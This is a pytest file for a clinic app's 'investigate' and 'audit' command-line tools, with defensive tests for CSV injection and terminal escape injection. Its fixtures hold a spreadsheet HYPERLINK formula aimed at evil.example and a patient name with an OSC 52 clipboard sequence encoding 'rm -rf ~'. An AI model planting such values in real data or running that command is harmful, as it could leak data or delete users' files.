"""tally investigate and tally audit, run as management commands against the test database."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest
from django.core.management import CommandError, call_command

from tally.clinic.actions import sales, visits


def sold_then_visit_without_charges(desk, patient, package, service):
    """`package` sold and paid on 1 March, then a visit on 5 March checked in with No Charges:
    a NO_CHARGES warning on the package."""
    sold, _ = sales.do_sell_package(acting_user=desk, patient=patient, package=package, use_first_session=False,
                                    sold_at=dt.datetime(2026, 3, 1, 15, tzinfo=dt.UTC),
                                    payment=(str(package.price), "card"))
    appointment = visits.do_book(acting_user=desk, patient=patient, service=service,
                                 starts_at=dt.datetime(2026, 3, 5, 15, tzinfo=dt.UTC))
    visits.do_check_in(acting_user=desk, appointment=appointment, no_charges=True)
    return sold


@pytest.fixture
def troubled(desk, patient, ten_pack, acu60, clinic):
    return sold_then_visit_without_charges(desk, patient, ten_pack, acu60)


def run(*args) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out)
    return out.getvalue()


def test_investigate_reads_well_on_a_terminal(troubled, patient):
    text = run("investigate", patient.patient_number)
    assert "10 x Acupuncture 60: 0 of 10 used · 10 left · active" in text
    assert "NO_CHARGES: The Acupuncture 60 min visit on 5 Mar 2026 was checked in with No Charges" in text
    assert "fix: check_in_and_charge(appointment_id=" in text
    assert "not counted: checked in with No Charges" in text


def test_investigate_json_is_the_support_export(troubled, patient):
    data = json.loads(run("investigate", patient.patient_number.lower(), "--json", "--anonymous"))
    assert data["patient"] == {"patient_number": patient.patient_number}
    assert data["packages"][0]["findings"][0]["code"] == "NO_CHARGES"


def test_investigate_json_holds_the_apis_investigation_of_the_patient(troubled, patient, desk):
    """The same thing in the same shape: every key of GET /patients/{id}/investigation
    (`patient_id`, `patient_number`, `packages`, `findings`) with the same value."""
    from django.test import Client

    from tally.clinic.models import ApiToken

    _, token = ApiToken.issue(desk)
    api = Client().get(f"/api/v1/patients/{patient.pk}/investigation", headers={"Authorization": f"Bearer {token}"})
    assert api.status_code == 200, api.content
    data = json.loads(run("investigate", patient.patient_number, "--json"))
    assert {key: data.get(key) for key in api.json()} == api.json()


def test_audit_json_is_the_apis_clinic_audit_in_its_shape(troubled, desk):
    """GET /audit/packages and `tally audit --json` with the same min_severity: the same keys at
    the top and in every item, the same items (the command's is the whole list: next is null)."""
    from django.test import Client

    from tally.clinic.models import ApiToken

    _, token = ApiToken.issue(desk)
    api = Client().get("/api/v1/audit/packages?min_severity=warning&limit=500",
                       headers={"Authorization": f"Bearer {token}"}).json()
    data = json.loads(run("audit", "--json", "--min-severity", "warning"))
    assert set(data) == set(api)
    assert data["next"] is None and data["scanned"] == api["scanned"]
    assert data["items"] == api["items"]


def test_investigate_refuses_an_unknown_patient_number(db):
    with pytest.raises(CommandError, match="No patient"):
        run("investigate", "P-999999")
    with pytest.raises(CommandError, match="patient numbers look like"):
        run("investigate", "bob")


def test_audit_lists_packages_with_findings_as_text_json_and_csv(troubled, patient):
    assert f"warning  {patient.patient_number}" in run("audit")
    data = json.loads(run("audit", "--json"))
    assert data["scanned"] == 1 and data["items"][0]["codes"] == ["NO_CHARGES"]
    rows = list(csv.reader(io.StringIO(run("audit", "--csv", "--min-severity", "error"))))
    assert rows == [["patient_package_id", "patient_number", "package", "worst_severity", "findings", "codes"]]


def test_command_line_reads_leave_audit_events(troubled, patient):
    """tally investigate and tally audit show patient data: each leaves events like the API's,
    naming the command and the operating-system user, since no staff member signs in."""
    from tally.clinic.audit import verify_chain
    from tally.clinic.models import AuditEvent

    before = AuditEvent.objects.count()
    run("investigate", patient.patient_number, "--json")
    event = AuditEvent.objects.order_by("-id").first()
    assert (event.action, event.patient_id, event.actor_id) == ("patient.investigate", patient.pk, None)
    assert event.after["via"] == "command line" and event.after["command"] == "tally investigate"
    assert event.after["os_user"] and event.after["json"] is True
    run("audit", "--min-severity", "info")
    events = list(AuditEvent.objects.filter(id__gt=event.id))
    assert [e.action for e in events] == ["patient_package.clinic_audit"]
    assert (events[0].patient_id, int(events[0].object_id)) == (patient.pk, troubled.pk)
    assert AuditEvent.objects.count() == before + 2
    assert verify_chain().intact


@pytest.fixture
def formula_named_package(owner, desk, patient, acu60, clinic):
    """A package whose name a spreadsheet would run as a formula (OWASP "CSV Injection")."""
    from tally.clinic.actions import catalog

    package = catalog.do_create_package(acting_user=owner, name='=HYPERLINK("http://evil.example/?x","Open")',
                                        price="100.00", sessions=5, service_ids=[acu60.pk])
    return sold_then_visit_without_charges(desk, patient, package, acu60)


def test_audit_csv_neutralises_text_a_spreadsheet_would_run_and_keeps_numbers(formula_named_package, patient):
    rows = list(csv.reader(io.StringIO(run("audit", "--csv"))))
    header, row = rows[0], rows[1]
    cell = dict(zip(header, row, strict=True))
    assert cell["package"] == '\'=HYPERLINK("http://evil.example/?x","Open")'
    assert cell["patient_package_id"] == str(formula_named_package.pk)  # a number stays a number
    assert cell["findings"] == "1" and cell["patient_number"] == patient.patient_number


def test_investigate_names_the_currency_of_every_amount_as_the_pages_do(troubled, patient, clinic):
    clinic.currency = "EUR"
    clinic.save()
    text = run("investigate", patient.patient_number)
    assert "paid €800.00 · balance €0.00" in text


def test_investigate_prints_no_terminal_control_characters_staff_typed(desk, troubled, patient, clinic):
    """A patient named by the front desk (or an integration) with escape sequences must not
    drive the owner's terminal: retitle it, clear the screen over the findings, or on some
    terminals write the clipboard (OSC 52). They are shown, escaped, as what they are."""
    from tally.clinic.actions.catalog import do_create_patient

    hostile = do_create_patient(acting_user=desk, first_name="Ann\x1b]52;c;cm0gLXJmIH4=\x07",
                                last_name="Lee\x1b[2J\x1b[H\u202e")
    text = run("investigate", hostile.patient_number)
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "Ann\\x1b]52;c;cm0gLXJmIH4=\\x07 Lee\\x1b[2J\\x1b[H\\u202e" in text
